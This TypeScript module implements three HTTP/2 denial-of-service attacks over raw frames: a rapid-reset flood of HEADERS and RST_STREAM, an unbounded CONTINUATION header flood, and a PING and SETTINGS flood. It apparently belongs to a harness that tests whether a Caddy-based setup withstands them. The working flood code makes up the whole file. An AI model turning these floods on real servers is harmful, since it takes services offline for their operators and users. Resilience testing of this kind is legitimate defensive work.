import type { Attack, Targets } from "./attack.ts";
import { HostileSocket, strangerAddress } from "./hostile-socket.ts";

/** HTTP/2 as bytes (RFC 9113), at whoever speaks it before the services. */

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const types = { headers: 1, resetStream: 3, settings: 4, ping: 6, continuation: 9 } as const;
const flags = { endStream: 1, endHeaders: 4 } as const;

function frame(type: number, flag: number, streamId: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flag, 4);
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** RFC 7541: GET, https, `/` from the static table, and the authority as it is. */
const request = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, 9]), Buffer.from("localhost")]);

/** Opens connections that speak HTTP/2, and hands each to `send` again and again while it stands. */
async function attack(
  { doors, seconds }: Targets,
  count: number,
  send: (socket: HostileSocket, round: number) => number,
): Promise<{ sent: number; stand: number }> {
  const [door] = doors;
  if (door === undefined) throw new Error("no door");
  const sockets = Array.from({ length: count }, (_, i) => new HostileSocket(door, strangerAddress(i), { alpn: "h2" }));
  for (const socket of sockets) socket.write(Buffer.concat([preface, frame(types.settings, 0, 0)]));
  const deadlineMs = performance.now() + seconds * 1000;
  let sent = 0;
  for (let round = 0; performance.now() < deadlineMs; round++) {
    for (const socket of sockets) if (socket.isOpen && socket.unsentBytes < 262_144) sent += send(socket, round);
    await Bun.sleep(5);
  }
  const stand = sockets.filter((socket) => socket.isOpen).length;
  for (const socket of sockets) socket.destroy();
  return { sent, stand };
}

const perRound = 50;

export const http2Attacks: Attack[] = [
  {
    name: "HTTP/2: requests reset as they are sent",
    ways: ["Caddy"],
    seconds: 5,
    run: async (targets) => {
      const ids = new Map<HostileSocket, number>();
      const { sent, stand } = await attack(targets, 8, (socket) => {
        const first = ids.get(socket) ?? 1;
        ids.set(socket, first + 2 * perRound);
        const frames = Array.from({ length: perRound }, (_, i) => first + 2 * i).flatMap((id) => [
          frame(types.headers, flags.endStream | flags.endHeaders, id, request),
          frame(types.resetStream, 0, id, Buffer.from([0, 0, 0, 8])),
        ]);
        socket.write(Buffer.concat(frames));
        return perRound;
      });
      return { result: `${sent} requests reset by 8 connections, ${stand} not cut`, isRight: true };
    },
  },
  {
    name: "HTTP/2: headers that go on and on",
    ways: ["Caddy"],
    seconds: 5,
    run: async (targets) => {
      // A literal that is not indexed: nothing of it is kept by the table.
      const field = Buffer.concat([
        Buffer.from([0, 1]),
        Buffer.from("x"),
        Buffer.from([127, 0x81, 0x7e]),
        Buffer.alloc(16_256, "y"),
      ]);
      const { sent, stand } = await attack(targets, 8, (socket, round) => {
        if (round === 0) socket.write(frame(types.headers, flags.endStream, 1, request));
        socket.write(frame(types.continuation, 0, 1, field));
        return field.length;
      });
      return {
        result: `${(sent / 2 ** 20).toFixed(0)} MiB of headers by 8 connections, ${stand} not cut`,
        isRight: true,
      };
    },
  },
  {
    name: "HTTP/2: pings and settings",
    ways: ["Caddy"],
    seconds: 5,
    run: async (targets) => {
      const some = Buffer.concat(
        Array.from({ length: perRound }, () =>
          Buffer.concat([frame(types.ping, 0, 0, Buffer.alloc(8)), frame(types.settings, 0, 0)]),
        ),
      );
      const { sent, stand } = await attack(targets, 8, (socket) => {
        socket.write(some);
        return 2 * perRound;
      });
      return { result: `${sent} frames by 8 connections, ${stand} not cut`, isRight: true };
    },
  },
];
